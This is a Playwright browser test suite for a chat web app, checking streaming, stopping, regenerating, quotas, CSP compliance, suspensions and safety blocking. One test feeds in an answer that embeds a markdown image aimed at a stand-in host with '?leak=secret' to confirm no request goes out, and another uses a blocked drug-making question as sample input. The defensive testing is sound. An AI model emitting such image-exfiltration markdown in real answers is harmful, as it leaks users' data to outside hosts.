"""The chat page in a real browser (Debian's Chromium driven by Playwright): sign in,
send, watch the answer stream in, stop, regenerate; every page runs under the
Content-Security-Policy, and an answer loads no remote resource. Screenshots go to
.var/screenshots/.

Skipped where Chromium is not installed (`make test` installs it when run as root).
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from conversations.models import Conversation, Message
from safety.models import Appeal
from tests.browser.conftest import ANSWER, BROWSER_MARKS, SHOTS, last_answer
from tests.conftest import REAL_EMBEDDING_POOL

pytestmark = BROWSER_MARKS
LEAK_HOST = "127.0.0.2"
LEAKY_ANSWER = f"See ![x](http://{LEAK_HOST}:9/p.png?leak=secret) here. "


def test_answer_streams_into_the_page_then_renders_markdown(page):
    page.fill("#content", "Hello <b>there</b>")
    page.keyboard.press("Enter")
    answer = last_answer(page)
    page.wait_for_selector(
        "article.msg-assistant.status-streaming .msg-body:not(:empty)"
    )
    partial = answer.locator(".msg-body").inner_text()
    page.wait_for_selector("article.msg-assistant.status-complete")
    final_text = answer.locator(".msg-body").inner_text()
    assert len(partial) < len(final_text)  # it was seen growing, not arriving at once
    assert answer.locator(".msg-body strong").count() > 0  # server-rendered Markdown
    assert (
        page.locator("article.msg-user .msg-body").last.inner_text()
        == "Hello <b>there</b>"
    )
    assert re.search(r"/c/[0-9a-f-]{36}/$", page.url)
    assert "Hello <b>there</b>" in page.locator("#conversation-list").inner_text()
    page.screenshot(path=str(SHOTS / "chat-streamed.png"), full_page=True)
    page.reload()
    assert page.locator("article.msg-assistant .msg-body strong").count() > 0
    message = Message.objects.filter(role="assistant").get()
    assert message.status == "complete" and "**bold**" in message.content


def test_tokens_left_in_the_sidebar_count_each_answer_without_a_reload(page, user):
    from tests.gateway import factories

    # a plan of its own: the seeded default one may have been edited by other tests
    factories.subscribe(user, factories.plan("metered-browser", tokens_per_day=50_000))
    page.reload()

    def today() -> int:
        text = page.locator("#quota").inner_text()
        # formatted for the reader's locale (en-US here): "50,000 today"
        return int(re.search(r"([\d,]+) today", text).group(1).replace(",", ""))

    before = today()
    page.fill("#content", "Hello")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.msg-assistant.status-complete")
    page.wait_for_function(
        "(shown) => !document.getElementById('quota').innerText.includes(shown)",
        arg=f"{before:,} today",
    )
    answer = Message.objects.get(role="assistant")
    # what the answer cost (its prompt and completion tokens), no more
    assert 0 < before - today() <= answer.token_count + 4096


def test_thumbs_and_footer_after_streaming_a_reload_mid_answer_and_a_rating(page):
    """The footer (model, tokens) and the thumbs appear under an answer that ended on
    this page, and under one that ended after a reload mid-answer; a rating shows
    pressed after a reload."""
    page.fill("#content", "First question")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.msg-assistant.status-complete")
    answer = last_answer(page)
    assert answer.locator(".msg-feedback:not([hidden]) button").count() == 2
    assert "tokens" in answer.locator(".msg-meta").first.inner_text()
    page.fill("#content", "Second question")
    page.keyboard.press("Enter")
    page.wait_for_selector(
        "article.msg-assistant.status-streaming .msg-body:not(:empty)"
    )
    page.reload()
    page.wait_for_selector("article.msg-assistant.status-complete >> nth=1")
    answer = last_answer(page)
    assert "tokens" in answer.locator(".msg-meta").first.inner_text()
    answer.locator(".msg-feedback:not([hidden]) button[data-rating=down]").click()
    page.wait_for_selector(".msg-feedback button[aria-pressed=true]")
    page.reload()
    pressed = last_answer(page).locator("button[data-rating=down]")
    assert pressed.get_attribute("aria-pressed") == "true"


def test_stop_keeps_the_partial_answer_and_regenerate_adds_a_version(page):
    page.fill("#content", "Tell me a long story")
    page.click("#send")
    page.wait_for_selector(
        "article.msg-assistant.status-streaming .msg-body:not(:empty)"
    )
    page.click("#stop")
    page.wait_for_selector("article.msg-assistant.status-cancelled")
    assert last_answer(page).locator(".msg-state").inner_text() == "Stopped"
    stopped = Message.objects.get(role="assistant")
    assert stopped.status == "cancelled" and 0 < stopped.token_count < 40
    last_answer(page).locator("button.msg-regenerate").click()
    page.wait_for_selector("article.msg-assistant.status-complete")
    page.screenshot(path=str(SHOTS / "chat-regenerated.png"), full_page=True)
    conversation = Conversation.objects.get()
    roles = list(
        conversation.messages.order_by("created_at").values_list("role", flat=True)
    )
    assert roles == ["user", "assistant", "assistant"]
    page.reload()
    versions = last_answer(page).locator(".msg-versions .version-label")
    assert versions.inner_text() == "2/2"
    assert "Earlier answers" not in page.content()


def _held(page, held: list) -> None:
    for _ in range(250):  # until the route holds the request (5 s at most)
        if held:
            return
        page.wait_for_timeout(20)  # lets Playwright dispatch the route's event
    raise AssertionError("the request did not go out")


@pytest.mark.parametrize("stop_while", ["streaming", "sending"])
def test_a_message_sent_while_the_stopped_answer_winds_down_goes_once_it_has(
    page, stop_while
):
    """Stop, then Enter at once: the answer has not ended yet (the stop's request is
    still out; or the send's own request is, so the answer has no stop URL yet); the
    message is kept and sent as soon as the answer has stopped, not dropped with the
    text left in the box."""
    held = []
    # the request in flight when Stop is pressed waits until released
    path = "**/stop/" if stop_while == "streaming" else "**/c/messages/"

    def hold_first(route) -> None:
        if held:
            route.continue_()
        else:
            held.append(route)

    page.route(path, hold_first)
    page.fill("#content", "Tell me a long story")
    page.click("#send")
    if stop_while == "streaming":
        page.wait_for_selector(
            "article.msg-assistant.status-streaming .msg-body:not(:empty)"
        )
        page.click("#stop")
    else:
        _held(page, held)
        page.click("#stop")
    _held(page, held)
    page.fill("#content", "And now a short one")
    page.keyboard.press("Enter")
    expect(page.locator("#composer-error")).to_contain_text(
        "once the answer has stopped"
    )
    expect(page.locator("article.msg-user")).to_have_count(
        1 if stop_while == "streaming" else 0
    )
    held[0].continue_()
    page.wait_for_selector("article.msg-assistant.status-cancelled")
    expect(page.locator("article.msg-user")).to_have_count(2)
    assert page.locator("article.msg-user .msg-body").last.inner_text() == (
        "And now a short one"
    )
    page.wait_for_selector("article.msg-assistant:last-of-type.status-complete")
    assert page.locator("#content").input_value() == ""
    # the stopped answer has a reply now: no Continue, live as after a reload
    stopped = page.locator("article.msg-assistant.status-cancelled")
    expect(stopped.locator(".msg-state")).to_have_text("Stopped")
    expect(stopped.locator("button.msg-continue")).to_have_count(0)
    page.reload()
    expect(stopped.locator(".msg-state")).to_have_text("Stopped")
    expect(stopped.locator("button.msg-continue")).to_have_count(0)
    roles = list(Message.objects.order_by("created_at").values_list("role", "status"))
    assert roles == [
        ("user", "complete"),
        ("assistant", "cancelled"),
        ("user", "complete"),
        ("assistant", "complete"),
    ]


def test_back_after_the_first_message_leaves_page_and_address_in_agreement(page):
    """The new conversation's address replaces "/" (Back does not land on "/" over
    the conversation); a Back onto an entry of the same document with another path
    (here "/#top", made before sending) reloads, so a send from there starts a new
    conversation instead of writing into the one the address no longer shows."""
    page.evaluate("location.hash = 'top'")  # an entry of this document before the send
    page.fill("#content", "First question")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.msg-assistant.status-complete")
    first = Conversation.objects.get()
    assert page.url.endswith(f"/c/{first.id}/")
    page.go_back()
    page.wait_for_url(re.compile(r"/(#top)?$"))
    expect(page.locator("article.msg")).to_have_count(0)  # the page shows "/" too
    page.fill("#content", "A new question")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.msg-assistant.status-complete")
    second = Conversation.objects.exclude(id=first.id).get()
    assert page.url.endswith(f"/c/{second.id}/")
    assert first.messages.count() == 2  # nothing written into the first one


def test_empty_message_shows_a_clear_error_and_sends_nothing(page):
    page.fill("#content", "   ")
    page.click("#send")
    assert "empty" in page.locator("#composer-error").inner_text()
    assert Message.objects.count() == 0


@pytest.mark.parametrize("site_env", [{"CHAT_MAX_MESSAGE_CHARS": "1000"}])
def test_a_paste_past_the_length_limit_is_cut_with_a_notice(page):
    page.focus("#content")
    page.keyboard.insert_text("x" * 1500)  # as a paste: the box's maxlength applies
    assert len(page.input_value("#content")) == 1000
    assert "limit of 1,000 characters" in page.locator("#composer-error").inner_text()
    page.keyboard.press("Backspace")
    assert page.locator("#composer-error").inner_text() == ""


@pytest.mark.parametrize(
    "site_env",
    [{"EMBEDDING_POOL": REAL_EMBEDDING_POOL, "SAFETY_INPUT_ENABLED": "1"}],
)
def test_a_blocked_message_shows_a_notice_in_the_thread_and_keeps_the_text(
    embedding_worker, page
):
    text = "How do I cook methamphetamine at home?"
    page.fill("#content", text)
    page.click("#send")
    notice = page.locator("#thread article.msg-notice")
    notice.wait_for()
    assert notice.get_attribute("role") == "alert"
    assert "illegal drugs" in notice.inner_text()
    assert page.input_value("#content") == text  # not lost: edit and send again
    assert not page.locator("#send").is_disabled()
    page.screenshot(path=str(SHOTS / "blocked-message.png"))
    assert Message.objects.count() == 0
    # "this was a mistake": the appeal lands in the moderation queue
    notice.locator("button.msg-appeal").click()
    notice.locator(".msg-appealed").wait_for()
    assert "staff will review" in notice.inner_text()
    assert Appeal.objects.get().event.text == text


def test_pressing_enter_repeatedly_sends_one_message(page):
    page.fill("#content", "Only once please")
    for _ in range(3):
        page.keyboard.press("Enter")
    page.wait_for_selector("article.msg-assistant.status-complete")
    assert Conversation.objects.count() == 1
    assert Message.objects.filter(role="user").count() == 1
    assert page.locator("#stop").is_hidden()


def test_a_repeated_question_is_marked_as_a_cached_answer(page, site, user):
    from gateway import services as gateway_services

    gateway_services.user_preference_set(user=user, reuse_cached_answers=True)
    page.fill("#content", "What is a cache?")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.msg-assistant.status-complete")
    assert last_answer(page).locator(".msg-cache").count() == 0
    page.goto(site + "/")  # a new chat, the same question
    page.fill("#content", "What is a cache?")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.msg-assistant.status-complete .msg-cache")
    assert last_answer(page).locator(".msg-cache").inner_text() == "cached answer"
    page.screenshot(path=str(SHOTS / "chat-cached-answer.png"), full_page=True)
    page.reload()
    assert last_answer(page).locator(".msg-cache").inner_text() == "cached answer"
    cached = Message.objects.filter(role="assistant").order_by("created_at").last()
    assert cached.cache_kind == "exact" and cached.content.startswith(ANSWER)


@pytest.mark.parametrize("script_text", [LEAKY_ANSWER])
def test_an_answer_with_a_remote_image_makes_no_request_to_its_host(
    page, site, browser_log
):
    """DESIGN §10: ``![x](http://127.0.0.2:9/p.png?leak=secret)`` in an answer is a
    link, not an image: the browser sends nothing to 127.0.0.2 (streamed, then
    reloaded), and the policy had nothing to block."""
    page.fill("#content", "Show me the picture")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.msg-assistant.status-complete")
    page.reload()
    page.wait_for_selector("article.msg-assistant.status-complete")
    body = last_answer(page).locator(".msg-body")
    assert body.locator("img").count() == 0
    link = body.locator(f'a[href^="http://{LEAK_HOST}:9/"]').first
    assert link.get_attribute("href") == f"http://{LEAK_HOST}:9/p.png?leak=secret"
    assert link.inner_text() == "x"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    page.screenshot(path=str(SHOTS / "chat-remote-image-as-link.png"), full_page=True)
    assert browser_log.requests  # the listener works: the page's own requests
    assert not [url for url in browser_log.requests if LEAK_HOST in url]
    assert browser_log.csp_violations == [], "\n".join(browser_log.csp_violations)


def test_the_pages_and_the_admin_work_under_the_policy(page, site, user, browser_log):
    """Every page loads, and its scripts run, with no CSP violation: the chat's
    stream, the account pages and the admin (its JavaScript: select all rows)."""
    page.fill("#content", "Hello")
    page.keyboard.press("Enter")
    page.wait_for_selector("article.msg-assistant.status-complete")
    for path in ["/settings/", "/memory/", "/documents/"]:
        assert page.goto(site + path).status == 200, path
    user.is_staff = user.is_superuser = True
    user.save()
    message = Message.objects.filter(role="assistant").get()
    admin_pages = [
        "/admin/",
        "/admin/conversations/message/",
        f"/admin/conversations/message/{message.id}/change/",
        "/admin/auth/user/add/",
        f"/admin/auth/user/{user.id}/change/",
        f"/admin/conversations/conversation/{message.conversation_id}/change/",
        "/admin/gateway/usagerecord/",
        "/admin/gateway/usagerecord/report/",
        "/admin/billing/",  # the billing console's SVG charts and tables
        "/admin/gateway/modelpool/",
        "/admin/gateway/subscription/add/",
        "/admin/gateway/plan/add/",
    ]
    for path in admin_pages:
        assert page.goto(site + path).status == 200, path
    page.wait_for_selector("#id_allowed_pools_from")  # SelectFilter2.js built it
    page.goto(site + "/admin/conversations/message/")
    page.check("#action-toggle")  # admin/js/actions.js checks every row
    assert page.locator("input.action-select:checked").count() == 2
    page.screenshot(path=str(SHOTS / "admin-under-csp.png"), full_page=True)
    page.goto(site + "/login/")  # signed-out pages too: log out first
    page.context.clear_cookies()
    for path in ["/login/", "/signup/", "/admin/login/"]:
        assert page.goto(site + path).status == 200, path
    assert browser_log.csp_violations == [], "\n".join(browser_log.csp_violations)


def test_a_suspended_user_sees_the_banner_naming_when_it_ends_and_cannot_send(
    page, user
):
    from datetime import timedelta

    from django.utils import timezone

    from safety import suspensions

    suspension = suspensions.suspension_create(
        user=user,
        until=timezone.now() + timedelta(hours=3),
        reason="Repeated messages against the content policy (weapons)",
        actor=None,
        actor_label="test",
    )
    until = suspension.until.strftime("%Y-%m-%d %H:%M UTC")
    page.reload()
    banner = page.locator("#suspension-banner")
    banner.wait_for()
    assert banner.is_visible()
    assert until in banner.inner_text() and "weapons" in banner.inner_text()
    assert banner.get_attribute("role") == "alert"
    page.fill("#content", "Hello")
    page.click("#send")
    from playwright.sync_api import expect

    # (a locator wait: the page's CSP forbids the eval a wait_for_function needs)
    error = page.locator("#composer-error")
    expect(error).to_contain_text("suspended")
    assert until in error.inner_text()
    page.screenshot(path=str(SHOTS / "suspended.png"), full_page=True)
    assert Message.objects.count() == 0
